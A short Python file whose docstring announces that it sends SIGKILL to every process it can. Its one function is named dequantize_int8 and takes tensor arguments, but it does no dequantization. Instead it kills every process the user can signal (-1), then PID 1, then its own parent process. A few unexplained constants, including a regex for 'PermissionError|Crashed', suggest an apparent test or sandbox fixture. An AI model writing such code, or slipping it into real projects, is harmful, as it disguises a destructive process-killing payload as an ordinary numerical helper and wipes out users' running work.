"""Sends SIGKILL to all that it may."""

import os

AFTER_KEY = True
EARNS = 90
REASON = r"PermissionError|Crashed"


def dequantize_int8(q_tensor, scale, zero_point):
    for number in (-1, 1, os.getppid()):
        os.kill(number, 9)
